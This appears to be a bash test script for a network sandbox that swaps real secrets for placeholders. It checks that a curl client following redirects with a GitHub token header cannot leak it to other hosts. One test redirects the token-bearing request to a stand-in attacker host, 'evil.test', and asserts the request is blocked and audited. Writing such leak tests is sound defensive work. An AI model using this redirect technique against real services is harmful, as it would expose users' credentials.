#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-only
# nej follows nothing; a client that takes its credentials along takes placeholders.
. "$(dirname "$0")/../lib.sh"
RUN=(--ca "$CA")
export GH=ghp_0123456789abcdefghijklmnopqrstuvwxyzAB
policy <<-'EOF2'
	version: 1
	rules: [allow: gh.test, {allow: a.pkg.test, inspect: true}]
	secrets: {GH: {env: GH, for: [gh.test]}}
EOF2
go='curl -sS -L --location-trusted --max-time 5 -w %{http_code} -H "Authorization: token $GH"'
expect 0 '403' inside bash -c "$go https://gh.test/go/302/https://a.pkg.test/"
expect 0 '403' inside bash -c "$go -d a=b https://gh.test/go/307/https://a.pkg.test/"
expect ! '403' inside bash -c "$go https://gh.test/go/302/https://evil.test/"
expect 0 '200' inside bash -c "$go https://gh.test/go/302/https://gh.test/end"
expect 0 '200' inside bash -c "${go/--location-trusted} https://gh.test/go/302/https://a.pkg.test/"
world kind=http host=gh.test path=/end "headers.authorization=token $GH"
none_world kind=http host=a.pkg.test headers.authorization=~ghp_
audit event=network_blocked host=a.pkg.test reason=placeholder-leak
evil_saw_nothing
verified
